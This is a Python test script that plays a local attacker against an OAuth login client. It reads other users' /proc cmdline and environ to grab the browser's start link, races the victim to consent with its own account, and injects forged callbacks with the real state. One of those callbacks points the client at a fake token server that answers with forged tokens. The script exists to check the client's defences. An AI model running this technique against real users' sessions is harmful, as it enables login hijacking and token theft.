"""The attacker of issue #8 item 1, as far as an attacker now gets: another local user who reads the browser's
argv (/proc/PID/cmdline: readable by every local user) and races the browser for what is there.

The browser's argv now holds only a one-time start link on the victim's listener. The attacker takes it
first (a 302 to the consent URL, with `state` and the PKCE challenge), consents there with its own account
(the emulator approves at once: a real code for the victim's client and challenge) and lets the victim's
browser arrive (it touches TAKEN, the browser's stop file). Once GO exists it sends the victim's listener
two callbacks with the real `state`: its own code, and a made-up code with `accounts-server` pointing at
its own fake accounts server on 127.0.0.1:PORT (which answers the token and revoke calls the way Zoho
would, so a victim that trusted it would go on to send more). It writes what it saw to OUT (JSON) when
STOP exists.

    python tests/forger.py PORT OUT STOP TAKEN GO
"""

from __future__ import annotations

import json
import os
import sys
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit

received: list[dict[str, str]] = []


class Trap(BaseHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass

    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("latin-1")
        received.append({"method": self.command, "path": self.path, "body": body})
        port = self.server.server_address[1]
        answer = {"/oauth/v2/token": {"access_token": "1000.forged.access", "refresh_token": "1000.forged.refresh",
                                      "expires_in": 3600, "api_domain": f"http://127.0.0.1:{port}"},
                  "/oauth/v2/token/revoke": {"status": "success"}}.get(urlsplit(self.path).path, {"data": []})
        data = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = _answer


def link_in_argv(stop: Path) -> str | None:
    """What zconnect gave the browser on its command line: a start link (before: the consent URL).

    Only this test's browser (its environment names its stop file): an attacker takes any, but other
    test runs on the same machine hold links in their browsers' argv too, and taking theirs would
    leave this victim waiting.
    """
    marker = f"ARGV_BROWSER_STOP={stop}".encode()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            if marker not in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0"):
                continue
        except OSError:
            continue
        for arg in args:
            text = arg.decode("utf-8", "replace")
            if text.startswith("http://127.0.0.1:") or "/oauth/v2/auth?" in text:
                return text
    return None


def get(url: str) -> tuple[object, str]:
    """GET `url` without following a redirect: (status or the error, Location or "")."""
    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args: object) -> None:  # type: ignore[override]
            return None

    try:
        with urllib.request.build_opener(NoRedirect).open(url, timeout=10) as answer:
            return answer.status, answer.headers.get("Location", "")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers.get("Location", "")
    except OSError as exc:
        return repr(exc), ""


def main(port: int, out: Path, stop: Path, taken: Path, go: Path) -> None:
    server = ThreadingHTTPServer(("127.0.0.1", port), Trap)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    report: dict[str, object] = {"argv": None, "took": None, "consent_url": "", "callbacks": []}
    deadline = time.monotonic() + 60
    link = None
    while link is None and time.monotonic() < deadline and not stop.exists():
        link = link_in_argv(taken)
        time.sleep(0.02)
    report["argv"] = link
    if link:
        report["took"], consent = get(link)  # first: the victim's browser is still starting
        report["consent_url"] = consent
        if "state=" in consent:
            _, own_code_callback = get(consent)  # its own consent: Zoho redirects with a real code
            query = parse_qs(urlsplit(consent).query)
            forged = query["redirect_uri"][0] + "?" + urlencode({
                "state": query["state"][0], "code": "1000.forged.code", "location": "old",
                "accounts-server": f"http://127.0.0.1:{port}"})
            taken.touch()  # the victim's browser arrives now
            while not go.exists() and time.monotonic() < deadline:
                time.sleep(0.02)
            report["callbacks"] = [[url, get(url)[0]] for url in (own_code_callback, forged) if url]
    taken.touch()
    (out.parent / (out.name + ".sent")).touch()
    while not stop.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    server.shutdown()
    server.server_close()
    thread.join(10)
    report["received"] = received
    out.write_text(json.dumps(report))


if __name__ == "__main__":
    main(int(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3]), Path(sys.argv[4]), Path(sys.argv[5]))
